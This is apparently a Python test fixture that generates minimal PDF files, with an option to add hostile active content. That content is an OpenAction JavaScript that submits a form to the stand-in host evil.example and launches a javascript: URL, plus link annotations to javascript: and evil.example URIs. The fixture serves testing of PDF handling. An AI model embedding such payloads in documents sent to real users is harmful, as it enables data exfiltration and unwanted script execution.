# SPDX-License-Identifier: Apache-2.0
"""Small PDFs for tests (ISO 32000-1 §7): pages with a line of text, and what a hostile one has besides."""

import zlib


def stream(data, extra=""):
    packed = zlib.compress(data)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), extra.encode(), packed)


def write(objects):
    """The file with these objects, numbered from 1 on; the first one is the catalog."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, table, len(objects) + 1, len(out))


def document(pages, font_file=None, hostile=False, drawing=b""):
    """A PDF whose pages say these texts (ASCII). font_file: the bytes of a TrueType font to be embedded. drawing: operators of each page."""
    first = 6  # object of the first page; 1 catalog, 2 pages, 3 font, 4 its descriptor, 5 its bytes
    kids = " ".join(f"{first + 2 * i} 0 R" for i in range(len(pages)))
    catalog = "<< /Type /Catalog /Pages 2 0 R"
    if hostile:
        script = "app.alert(8); this.submitForm('http://evil.example/'); app.launchURL('javascript:alert(9)')"
        catalog += f" /OpenAction << /S /JavaScript /JS ({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) >>"
        catalog += " /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(10\\)) >>] >> >>"
    if font_file:
        widths = " ".join(["600"] * 96)
        font = f"<< /Type /Font /Subtype /TrueType /BaseFont /Own /FirstChar 32 /LastChar 127 /Widths [{widths}] /FontDescriptor 4 0 R /Encoding /WinAnsiEncoding >>"
        descriptor = "<< /Type /FontDescriptor /FontName /Own /Flags 32 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 900 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 5 0 R >>"
    else:
        font, descriptor = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", "null"
    objects = [(catalog + " >>").encode(), f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>".encode(), font.encode(), descriptor.encode(),
               stream(font_file, f"/Length1 {len(font_file)}") if font_file else b"null"]
    for i, text in enumerate(pages):
        links = ""
        if hostile:
            areas = ["javascript:alert(11)", "http://evil.example/", "/portal/logout"]
            links = " /Annots [" + " ".join(
                f"<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI ({uri.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) >> >>"
                for uri in areas) + "]"
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Resources << /Font << /F 3 0 R >> >> /Contents {first + 2 * i + 1} 0 R{links} >>".encode())
        said = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        objects.append(stream(b"0.06 0.46 0.43 rg 0 0 400 40 re f 0 g\nBT /F 24 Tf 40 200 Td (%s) Tj ET\n%s" % (said.encode(), drawing)))
    return write(objects)
